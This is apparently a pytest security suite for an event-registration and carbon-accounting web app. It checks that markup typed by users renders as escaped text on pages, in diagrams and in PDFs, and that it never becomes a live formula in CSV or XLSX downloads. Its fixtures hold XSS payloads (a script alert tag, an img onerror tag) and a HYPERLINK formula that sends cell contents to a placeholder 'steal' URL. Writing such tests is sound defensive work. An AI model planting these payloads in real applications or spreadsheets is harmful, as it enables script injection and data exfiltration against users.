"""Markup typed by users renders as text everywhere: every page (for every role that sees it, the
public pages included), the diagram the BPMN viewer draws, the PDFs; and typed text never turns
into a live formula in the CSV and XLSX downloads."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import timedelta

import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select

from models import HumanTask, db
from processes import events, uploads, workflow
from tests.lifecycle import (
    PDF,
    account_data,
    after_event,
    approve_all,
    cancellation,
    complete,
    plan_data,
    registration,
    report_reductions,
    user,
)
from tests.security.conftest import bearer, build_world, session_client
from tests.security.pages import crawl

SCRIPT = '<script>alert("xss")</script>'
IMG = "<img src=x onerror=alert(1)>"
NAME = f"{SCRIPT}车展{IMG}"
FORMULA = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'
RAW = (SCRIPT, IMG, "<img src=x", "<script>alert", "<svg onload")  # as tags, not as escaped text


@pytest.fixture()
def markup_world(demo, upload_dir):  # noqa: ANN001
    """A 300-person event whose every typed field carries markup, taken all the way to disclosure."""
    world = build_world(upload_dir)
    data = registration(300, name=NAME) | {"venue": f"{IMG}会展中心", "organizers": [f"{SCRIPT}会展公司"]}
    event = events.register_event(user("organizer"), data)
    db.session.commit()
    plan = plan_data()
    plan["measures"][0]["description"] = f"{SCRIPT} measure"
    plan["boundary"][1]["reason"] = f"{IMG} reason"
    plan["estimate"][0]["note"] = FORMULA
    complete(event, "prepare_plan", "organizer", plan)
    complete(event, "review_plan_sector", "commerce", {"decision": "return", "comment": f"{IMG} 请补充"})
    complete(event, "review_plan_eeb", "eeb_rencheng", {"decision": "approve", "comment": SCRIPT})
    complete(event, "prepare_plan", "organizer", plan)
    approve_all(event)
    events.add_comment(user("organizer"), event, f"{SCRIPT}{IMG} comment")
    workflow.tick(after_event(event))
    db.session.commit()
    report_reductions(event)
    complete(event, "account_emissions", "organizer", account_data() | {"activities": [
        account_data()["activities"][0] | {"note": FORMULA}]}, now=after_event(event, 2))
    cancelled = cancellation(event)
    cancelled["cancellations"][0]["project"] = f"{IMG}泗水林业碳汇"
    complete(event, "cancel_units", "organizer", cancelled, now=after_event(event, 3))
    complete(event, "sign_commitment", "organizer", {"confirmation_method": f"{SCRIPT}自我承诺",
                                                     "neutral_on": event.ends_on + timedelta(days=3),
                                                     "truthful": True}, now=after_event(event, 4))
    upload = uploads.store(PDF, f"{IMG}.pdf", user("organizer"), upload_dir, max_bytes=2**20, event=event)
    db.session.commit()
    task = db.session.execute(select(HumanTask).where(HumanTask.event_id == event.id,
                                                      HumanTask.name == "review_plan_sector")).scalars().first()
    assert event.status.value == "confirmed"
    return dataclasses.replace(world, event_id=event.id, task_id=task.id, upload_id=upload.id)


def test_markup_renders_as_text_on_every_page(app, markup_world):  # noqa: ANN001
    seen_escaped, pages = set(), 0
    for page in crawl(app, markup_world):
        if page.text is None:
            continue
        pages += 1
        for raw in RAW:
            assert raw not in page.text, f"{page.principal} {page.url}: raw markup {raw!r} in the page"
        if str(escape(SCRIPT)) in page.text or str(escape(IMG)) in page.text:
            seen_escaped.add(page.endpoint)
    assert pages > 50
    # The markup really was on the pages that show the event, its tasks, comments and disclosure.
    assert {"events.show", "events.index", "main.my_events", "tasks.show", "public.event",
            "public.index"} <= seen_escaped, seen_escaped


def test_the_diagram_shows_labels_of_the_diagram_only(app, markup_world):  # noqa: ANN001
    """The BPMN viewer draws the diagram's own labels; nothing a user typed reaches its XML."""
    client = session_client(app, "organizer")
    xml = client.get(f"/events/{markup_world.event_id}/diagram.bpmn").get_data(as_text=True)
    assert "<definitions" in xml or "bpmn:definitions" in xml
    assert "车展" not in xml and "alert" not in xml
    page = client.get(f"/events/{markup_world.event_id}").get_data(as_text=True)
    canvas = page[page.index('id="bpmn-canvas"'):].split(">", 1)[0]
    assert "alert" not in canvas and "<" not in canvas.split("bpmn-canvas", 1)[1]


PDFS = ["/public/events/{id}/commitment.pdf", "/events/{id}/commitment.pdf", "/events/{id}/audit.pdf"]
DOWNLOADS = ["/events/{id}/account.csv", "/events/{id}/account.xlsx", "/events/{id}/audit.csv",
             "/events/{id}/audit.xlsx", "/dashboard/export.xlsx", "/dashboard/compliance.xlsx"]


def test_pdfs_carry_no_script(app, markup_world):  # noqa: ANN001
    for url in PDFS:
        check_pdf(session_client(app, "auditor").get(url.format(id=markup_world.event_id)))


def check_pdf(response) -> None:  # noqa: ANN001
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.data.startswith(b"%PDF")
    for marker in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/AA ", b"/EmbeddedFile"):
        assert marker not in response.data, marker
    # An open action may only be a view destination ([page /FitH …]), never an action dictionary.
    assert re.findall(rb"/OpenAction\s*(.)", response.data) in ([], [b"["])
    assert response.headers["Content-Disposition"].startswith("attachment")


def _cells_of(response) -> list:  # noqa: ANN001
    if response.mimetype == "text/csv":
        return [cell for row in csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
                for cell in row]
    workbook = load_workbook(io.BytesIO(response.data))
    formulas = [f"{ws.title}!{c.coordinate}={c.value}" for ws in workbook for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert not formulas, f"live formulas in {response.request.path}: {formulas}"
    return [c.value for ws in workbook for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_typed_text_never_becomes_a_formula_in_downloads(app, markup_world):  # noqa: ANN001
    neutralised = 0
    for url in DOWNLOADS:
        response = session_client(app, "auditor").get(url.format(id=markup_world.event_id))
        assert response.status_code == 200, url
        for cell in _cells_of(response):
            assert not (isinstance(cell, str) and cell.startswith(("=", "+", "@"))), f"{url}: {cell!r} is a formula"
            neutralised += isinstance(cell, str) and cell.startswith("'=HYPERLINK")
    assert neutralised >= 2  # the typed note was in the account exports, as text


def test_api_answers_json_not_html(app, markup_world):  # noqa: ANN001
    response = session_client(app, None).get(f"/api/v1/events/{markup_world.event_id}", headers=bearer("organizer"))
    assert response.mimetype == "application/json" and response.get_json()["name"] == NAME
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.get_json()["open_tasks"] == []
